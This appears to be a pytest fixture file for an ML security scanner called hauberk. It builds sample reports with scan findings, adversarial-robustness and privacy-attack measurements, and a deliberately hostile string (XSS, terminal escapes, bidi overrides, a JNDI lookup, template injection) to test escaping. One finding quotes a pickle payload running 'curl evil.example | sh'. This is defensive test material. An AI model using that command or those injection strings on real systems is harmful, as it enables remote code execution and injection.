"""Reports to render: one with everything, hostile text included, one empty, one interrupted, one undecided, one met."""

from __future__ import annotations

import datetime as dt
import math
import struct

import msgspec
import pytest

from hauberk.core.card import Card
from hauberk.core.evidence import (
    Digest,
    Exhibit,
    Finding,
    Indicator,
    Location,
    Measurement,
    Provenance,
    Setting,
    Skipped,
)
from hauberk.core.plugins import Listing
from hauberk.core.policy import Acceptance, Policy, Requirement
from hauberk.core.protocols import TargetSpec
from hauberk.core.report import Machine, Report, Timing
from hauberk.core.schema import Column, DatasetSpec, Schema

NOON = dt.datetime(2026, 11, 23, 12, 0, tzinfo=dt.UTC)
HOSTILE = (
    '<script>alert("1")</script><img src=x onerror=alert(1)> \x1b[31;1mred\x1b]0;title\x07 \u202egnp.exe\u202c '
    "\u200bzero ]]> `tick` | pipe @everyone #1 [link](https://evil.example) ${jndi} "
    "{{7*7}} {% raw %} [bold]rich[/bold] \x00\x85"
)
"""HTML, terminal escapes, bidi overrides, zero width, CDATA's end, Markdown, templates, rich markup, NUL, C1."""


def made(recipe="scan", seed=7, **settings):
    rows = tuple(Setting(name=name, value=value) for name, value in settings.items())
    return Provenance(
        tool="hauberk", version="0.1.0", recipe=recipe, time="2026-11-23T11:58:00+00:00", settings=rows, seed=seed
    )


def finding(rule, severity, path, message, fix, *, confidence="high", trace=(), references=(), **place):
    return Finding(
        rule=rule,
        severity=severity,
        confidence=confidence,
        location=Location(path=path, **place),
        message=message,
        fix=fix,
        provenance=made(rule),
        trace=trace,
        references=references,
    )


def measurement(
    name, value, low, high, n, recipe, *, unit="share", better="higher", method="clopper-pearson", seed=7, **more
):
    settings = more.pop("settings", {})
    return Measurement(
        name=name,
        subject=more.pop("subject", "digits-cnn"),
        value=value,
        low=low,
        high=high,
        level=0.95,
        method=method,
        n=n,
        unit=unit,
        better=better,
        provenance=made(recipe, seed, **settings),
        **more,
    )


def wilson(share, n):
    """Bounds for a fixture: near enough to look at."""
    z = 1.96
    mid = (share + z * z / (2 * n)) / (1 + z * z / n)
    half = z / (1 + z * z / n) * math.sqrt(share * (1 - share) / n + z * z / (4 * n * n))
    return share, max(0.0, mid - half), min(1.0, mid + half)


CHECKS = (
    Indicator(name="answers do not vary", passed=True, detail="2 calls on 64 samples agree to 0"),
    Indicator(name="gradients do not vanish", passed=True, detail="0 of 500 samples have a zero gradient"),
    Indicator(name="an unbounded attack reaches 0 %", passed=True, detail="0.0 % left at radius 1"),
    Indicator(name="breaks the weak control model", passed=None, detail="no control model could be made"),
)
MASKED = (
    Indicator(
        name="no black-box attack beats the gradient one",
        passed=False,
        detail="evasion.square leaves 41.0 %, evasion.pgd 55.2 %: gradients may be masked",
    ),
    Indicator(name="gradients do not vanish", passed=False, detail="212 of 500 samples have a zero gradient"),
)


def scans():
    return (
        finding(
            "model.pickle_payload",
            "critical",
            "models/teacher.pt",
            "loading this file runs os.system('curl evil.example | sh')",
            "Do not load it; ask its author for safetensors, and look at every machine that loaded it.",
            part="archive/data.pkl",
            offset=2114,
            trace=("STACK_GLOBAL posix system", "BINUNICODE 'curl evil.example | sh'", "REDUCE → system(…)"),
            references=("CWE-502", "AML.T0010", "OWASP-ML06"),
        ),
        finding(
            "code.unsafe_load",
            "high",
            "serve.py",
            "torch.load of a path that a request names, with weights_only=False",
            "Load with weights_only=True, from a fixed folder.",
            line=42,
            column=12,
            end_line=44,
            trace=("request.args['model'] → path (line 38)", "path → torch.load (line 42)"),
            references=("CWE-502", "CVE-2025-32434"),
        ),
        finding(
            "code.unsafe_load",
            "high",
            "train.py",
            "torch.load with weights_only=False",
            "Load with weights_only=True, from a fixed folder.",
            line=17,
            references=("CWE-502",),
        ),
        finding(
            "secrets.cloud_key",
            "high",
            "notebooks/explore.ipynb",
            "a cloud access key stands in the text",
            "Revoke the key, then take it out of the file and its history.",
            part="cell 4",
            line=3,
            references=("CWE-798",),
        ),
        finding(
            "data.suspicious_name",
            "medium",
            "data/übung [x]/<b>.csv",
            HOSTILE,
            f"Rename it. {HOSTILE}",
            confidence="medium",
            trace=(HOSTILE,),
            references=(HOSTILE, "CWE-116"),
        ),
        finding(
            "deployment.root_user",
            "medium",
            "Dockerfile",
            "the container runs as root",
            "Add USER with an unprivileged user.",
            line=1,
            references=("CWE-250",),
        ),
        finding(
            "model.unknown_operator", "low", "models/net.onnx", "the graph has 1 custom operator", "", confidence="low"
        ),
        finding("dependencies.unpinned", "low", "requirements.txt", "numpy has no version", "Pin it.", line=2),
        finding("model.no_card", "info", ".", "no model card", "Write MODEL_CARD.md."),
    )


def robustness():
    rows = [
        measurement(
            "clean_accuracy",
            *wilson(0.972, 540),
            540,
            "evaluation.accuracy",
            seed=None,
            method="wilson",
            population=540,
        )
    ]
    pixels = {"threat": "pixels", "norm": "linf"}
    strokes = {"threat": "strokes", "norm": "l2"}
    for radius, share in ((0.02, 0.874), (0.04, 0.682), (0.06, 0.436), (0.08, 0.242)):
        rows.append(
            measurement(
                "robust_accuracy", *wilson(share, 500), 500, "evasion.engine", role="curve", radius=radius, **pixels
            )
        )
    rows.append(
        measurement(
            "robust_accuracy",
            *wilson(0.124, 500),
            500,
            "evasion.engine",
            radius=0.1,
            population=540,
            indicators=CHECKS,
            note="worst case over the cascade",
            **pixels,
        )
    )
    for radius, share in ((0.1, 0.952), (0.2, 0.894), (0.3, 0.796), (0.4, 0.676)):
        rows.append(
            measurement(
                "robust_accuracy", *wilson(share, 500), 500, "evasion.engine", role="curve", radius=radius, **strokes
            )
        )
    rows.append(
        measurement(
            "robust_accuracy", *wilson(0.532, 500), 500, "evasion.engine", radius=0.5, indicators=MASKED, **strokes
        )
    )
    for recipe, share, settings in (
        ("evasion.fgsm", 0.342, {}),
        ("evasion.pgd", 0.158, {"steps": 40, "restarts": 1}),
        ("evasion.apgd", 0.126, {"steps": 100, "loss": "dlr"}),
        ("evasion.square", 0.124, {"queries": 300}),
    ):
        rows.append(
            measurement(
                "robust_accuracy",
                *wilson(share, 500),
                500,
                recipe,
                role="stage",
                radius=0.1,
                settings=settings,
                **pixels,
            )
        )
    rows.append(
        measurement(
            "robust_accuracy",
            *wilson(0.0, 64),
            64,
            "evasion.pgd",
            role="control",
            subject="weak control",
            radius=0.1,
            **pixels,
        )
    )
    rows.append(
        measurement(
            "robust_accuracy", *wilson(0.71, 200), 200, "evasion.square", threat="queries", norm="linf", radius=8 / 255
        )
    )
    rows.append(
        measurement(
            "queries",
            61.77,
            61.77,
            61.77,
            500,
            "attacks.evasion",
            role="diagnostic",
            unit="queries per sample",
            better="neither",
            method="exact",
            note="30885 in all",
            **pixels,
        )
    )
    return tuple(rows)


def families():
    auc = {"unit": "area", "method": "delong", "better": "lower", "threat": "membership"}
    rows = [
        measurement(
            "membership_auc",
            0.583,
            0.551,
            0.615,
            1080,
            "privacy.loss_threshold",
            **auc,
            note="members: training samples; others: test samples; 0.5 is guessing",
            indicators=(
                Indicator(
                    name="with membership shuffled the attack guesses", passed=True, detail="area 0.497 [0.463, 0.531]"
                ),
            ),
        ),
        measurement(
            "membership_tpr_at_1_percent_fpr",
            *wilson(0.031, 540),
            540,
            "privacy.loss_threshold",
            better="lower",
            threat="membership",
        ),
        measurement(
            "extraction_agreement",
            *wilson(0.846, 270),
            270,
            "extraction.knockoff",
            better="lower",
            threat="theft",
            note="1000 queries",
            indicators=(
                Indicator(name="the budget was kept", passed=True, detail="1000 of 1000 queries were answered"),
            ),
        ),
        measurement(
            "extraction_agreement",
            *wilson(0.104, 270),
            270,
            "extraction.knockoff",
            role="control",
            better="lower",
            threat="theft",
            note="a copy that asked nothing",
        ),
        measurement(
            "backdoor_success",
            *wilson(0.913, 480),
            480,
            "poisoning.badnets",
            better="lower",
            threat="backdoor",
            note="25 of 1257 training rows poisoned",
        ),
        measurement(
            "backdoor_success",
            *wilson(0.008, 480),
            480,
            "poisoning.badnets",
            role="control",
            better="lower",
            threat="backdoor",
        ),
    ]
    for fpr, share in ((0.01, 0.031), (0.02, 0.052), (0.05, 0.1), (0.1, 0.18), (0.2, 0.31), (0.5, 0.61)):
        rows.append(
            measurement(
                "membership_tpr",
                *wilson(share, 540),
                540,
                "privacy.loss_threshold",
                role="curve",
                along="false positive rate",
                at=fpr,
                better="lower",
                threat="membership",
            )
        )
    for queries, share in ((250.0, 0.61), (500.0, 0.74), (1000.0, 0.846)):
        rows.append(
            measurement(
                "extraction_agreement",
                *wilson(share, 270),
                270,
                "extraction.knockoff",
                role="curve",
                along="queries",
                at=queries,
                better="lower",
                threat="theft",
            )
        )
    return tuple(rows)


def skips():
    return (
        Skipped(
            subject="data/raw.zip",
            reason="unpacks to more than 2 GiB",
            provenance=made(),
            kind="limit",
            fix="raise [scan] max_bytes",
        ),
        Skipped(
            subject="evasion.deepfool",
            reason="needs gradients, the model gives labels only",
            provenance=made(),
            kind="power",
        ),
        Skipped(
            subject="fairness",
            reason="no column is marked sensitive",
            provenance=made(),
            kind="scope",
            fix="mark one with sensitive = true",
        ),
        Skipped(
            subject="models/old.h5",
            reason=f"cannot be read: {HOSTILE}",
            provenance=made(),
            kind="error",
            fix="convert it",
        ),
    )


def image(shape, label, after, change):
    channels, height, width = shape
    size = channels * height * width
    clean, adversarial = [], []
    for index in range(size):
        y, x = divmod(index % (height * width), width)
        channel = index // (height * width)
        ring = math.hypot((x + 0.5) / width - 0.5, (y + 0.5) / height - 0.5)
        value = 0.5 + 0.45 * math.cos(9 * ring + channel + len(label))
        clean.append(value)
        adversarial.append(min(1.0, max(0.0, value + change * (1 if (3 * x + 5 * y + channel) % 7 > 3 else -1))))
    return Exhibit(
        subject="digits-cnn",
        threat="pixels",
        layout="chw",
        shape=shape,
        bounds=(0.0, 1.0),
        label=label,
        clean=struct.pack(f"<{size}f", *clean),
        adversarial=struct.pack(f"<{size}f", *adversarial),
        predicted_clean=label,
        predicted_adversarial=after,
        distance=change,
        norm="linf",
        provenance=made("evasion.pgd", steps=40, restarts=1),
    )


def row(clean, adversarial, columns):
    return Exhibit(
        subject="credit",
        threat="applicant",
        layout="row",
        shape=(len(clean),),
        bounds=(0.0, 20000.0),
        label="bad",
        clean=struct.pack(f"<{len(clean)}f", *clean),
        adversarial=struct.pack(f"<{len(clean)}f", *adversarial),
        predicted_clean="bad",
        predicted_adversarial="good",
        distance=2.0,
        norm="l0",
        provenance=made("evasion.tabular"),
        columns=columns,
    )


COLUMNS = (
    Column(name="duration_months", kind="integer"),
    Column(name="amount", kind="integer"),
    Column(name="purpose", kind="categorical", categories=("car (new)", "car (used)", "education <i>")),
    Column(name="telephone", kind="boolean"),
    Column(name="age", kind="integer", immutable=True),
    Column(name="ratio"),
)


def exhibits():
    names = tuple(column.name for column in COLUMNS)
    return (
        image((1, 8, 8), "3", "8", 0.1),
        image((1, 8, 8), "7", "1", 0.098),
        image((3, 32, 32), "ship", "<b>truck</b>", 8 / 255),
        row((24.0, 5951.0, 0.0, 0.0, 22.0, 0.25), (12.0, 5951.0, 2.0, 1.0, 22.0, 0.25), names),
        row((48.0, 4870.0, 1.0, 1.0, 53.0, 1.5), (48.0, 4100.0, 1.0, 1.0, 53.0, 1.5), names),
    )


POLICY = Policy(
    fail_on="high",
    require=(
        Requirement(measurement="clean_accuracy", min=0.95),
        Requirement(measurement="robust_accuracy", threat="pixels", min=0.30),
        Requirement(measurement="robust_accuracy", threat="strokes", min=0.50),
        Requirement(measurement="membership_auc", threat="membership", max=0.60),
        Requirement(measurement="fairness_gap", threat="applicants", max=0.1),
    ),
    accept=(
        Acceptance(
            rule="code.unsafe_load", path="train.py", reason="weights of our own making", until=dt.date(2027, 6, 30)
        ),
        Acceptance(rule="dependencies.*", reason="rebuilt weekly <b>from</b> a lock", until=dt.date(2026, 1, 1)),
    ),
)


def report(**changes):
    base = Report(
        project="digits",
        run="20261123T115500Z-1a2b3c4d",
        version="0.1.0",
        command="hauberk check examples/digits --seed 7",
        seed=7,
        started=NOON - dt.timedelta(seconds=74.2),
        finished=NOON,
        machine=Machine(
            system="Linux 6.8", processor="x86_64", python="3.11.9", libraries=("torch==2.13.0", "numpy==2.1.0")
        ),
        policy=POLICY,
        evidence=(),
        target=TargetSpec(
            name="digits-cnn",
            kind="torch",
            shape=(1, 8, 8),
            classes=10,
            bounds=(0.0, 1.0),
            digest="sha256:" + "ab" * 32,
            notes=("loaded from safetensors: nothing was executed",),
        ),
        dataset=DatasetSpec(
            name="bundled:digits",
            layout="chw",
            shape=(1, 8, 8),
            classes=tuple("0123456789"),
            digest="sha256:" + "cd" * 32,
            bounds=(0.0, 1.0),
            train=1257,
            test=540,
            schema=Schema(columns=COLUMNS, label="good"),
            notes=("the split was made by hauberk with seed 0",),
        ),
        digests=(
            Digest(name="project file", value="sha256:" + "ef" * 32),
            Digest(name="model", value="sha256:" + "ab" * 32),
        ),
        timings=(Timing(name="scan", seconds=1.2), Timing(name="evasion", seconds=61.4)),
        root="9f" * 32,
    )
    return msgspec.structs.replace(base, **changes)


def full_report():
    return report(evidence=(*scans(), *robustness(), *families(), *skips(), *exhibits()))


def hardened_report():
    """The same project a day later: hardened, one finding fixed, one new, lines moved."""
    better = {("pixels", 0.1): 0.412, ("pixels", 0.08): 0.52, ("pixels", 0.06): 0.61, ("strokes", 0.5): 0.61}

    def later(row):
        share = 0.938 if row.name == "clean_accuracy" else better.get((row.threat, row.radius), row.value)
        value, low, high = wilson(share, row.n) if row.unit == "share" else (row.value, row.low, row.high)
        return msgspec.structs.replace(row, value=value, low=low, high=high, subject="digits-cnn-hardened")

    moved = [
        msgspec.structs.replace(item, location=msgspec.structs.replace(item.location, line=item.location.line + 7))
        if item.location.line
        else item
        for item in scans()[1:]
    ]
    new = finding("code.eval", "high", "tools/report.py", "eval of a model's answer", "Parse it.", line=9)
    base = full_report()
    return msgspec.structs.replace(
        base,
        run="20261124T115500Z-5e6f7a8b",
        finished=NOON + dt.timedelta(days=1),
        started=NOON + dt.timedelta(days=1, seconds=-80),
        target=msgspec.structs.replace(base.target, name="digits-cnn-hardened", digest="sha256:" + "ac" * 32),
        evidence=(*moved, new, *(later(row) for row in (*robustness(), *families())), *skips()),
    )


def reports():
    """Every report worth rendering, by name."""
    lone = Policy(require=(Requirement(measurement="robust_accuracy", threat="pixels", min=0.12),))
    stopped = Skipped(
        subject="evasion.square under pixels",
        reason="interrupted after 120 of 500 samples",
        provenance=made(),
        kind="interrupted",
    )
    robust = tuple(row for row in robustness() if row.threat == "pixels")
    return {
        "full": full_report(),
        "empty": report(policy=Policy(), target=None, dataset=None, digests=(), timings=(), root=""),
        "interrupted": report(policy=lone, evidence=(*robust, stopped), interrupted=True),
        "not_met": report(
            policy=Policy(require=(Requirement(measurement="robust_accuracy", threat="pixels", min=0.5),)),
            evidence=robust,
        ),
    }


@pytest.fixture(params=["full", "empty", "interrupted", "not_met"])
def any_report(request):
    return reports()[request.param]


@pytest.fixture
def hardened():
    return hardened_report()


@pytest.fixture
def full():
    return full_report()


RULE = Card(
    title="Unsafe loading of model files",
    summary="Finds loading that runs what the file says.",
    threats=("CWE-502",),
    severity="high",
)


@pytest.fixture(autouse=True)
def _one_rule(monkeypatch):
    """A catalogue of one rule, so that golden outputs do not change when rules do."""
    from hauberk.core import plugins

    real = plugins.catalog

    def catalog(family):
        if family != "rules":
            return real(family)
        return (Listing(family="rules", name="code.unsafe_load", module="m", symbol="S", card=RULE),)

    monkeypatch.setattr(plugins, "catalog", catalog)


@pytest.fixture
def named_reports():
    return reports()
